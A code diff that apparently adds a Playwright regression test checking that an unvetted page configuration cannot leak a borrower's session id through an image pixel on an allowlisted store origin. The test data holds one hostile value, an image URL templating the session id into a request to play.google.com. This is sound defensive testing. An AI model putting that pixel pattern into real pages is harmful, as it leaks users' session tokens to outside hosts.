@@ -124,6 +124,42 @@ test.describe('hostile documents that arrive unchecked send nothing off-site (is
   }
 });
 
+// Issue 28 item 3: the probe on an origin the configuration lists (https://play.google.com, for
+// the store links). Listing it lets a store badge load; it never lets the session go there.
+test.describe('a pixel on a listed origin carrying the session (issue 28 item 3)', () => {
+  const STORE = 'https://play.google.com';
+
+  test('the live page sends nothing to the listed origin, and still shows a plain picture from it', async ({
+    page,
+    watch,
+  }) => {
+    const reached: string[] = [];
+    // A 1x1 GIF, so the badge stays on the page.
+    const gif = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64');
+    await page.route(`${STORE}/**`, (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ contentType: 'image/gif', body: gif });
+    });
+    await serveUnchecked(
+      page,
+      '/about',
+      'about',
+      hostile([
+        { type: 'image', src: { t: `${STORE}/p.gif?sid={params.sessionId}` }, alt: '', priority: true },
+        { type: 'image', src: `${STORE}/badge.png`, alt: 'Get it on Google Play', priority: true },
+      ]),
+    );
+    await page.goto(`/about?sessionId=${SESSION.sessionId}&deviceId=${SESSION.deviceId}`);
+    await expect(page.getByText('Hello borrower')).toBeVisible();
+    await expect(page.getByRole('img', { name: 'Get it on Google Play' })).toBeAttached();
+    await expect.poll(() => reached.length).toBe(1);
+    await page.waitForTimeout(500);
+    expect(reached, 'requests to the listed origin').toEqual([`${STORE}/badge.png`]);
+    await expect(page.locator(`[src*="${SESSION.sessionId}"]`)).toHaveCount(0);
+    expect(watch.pageErrors).toEqual([]);
+  });
+});
+
 test.describe('Go Loan to a lendDetailsUrl on another origin (S2.18-10, D-34, D-50, issue 16 item 2)', () => {
   const H5 = 'https://h5.partner.example';
 
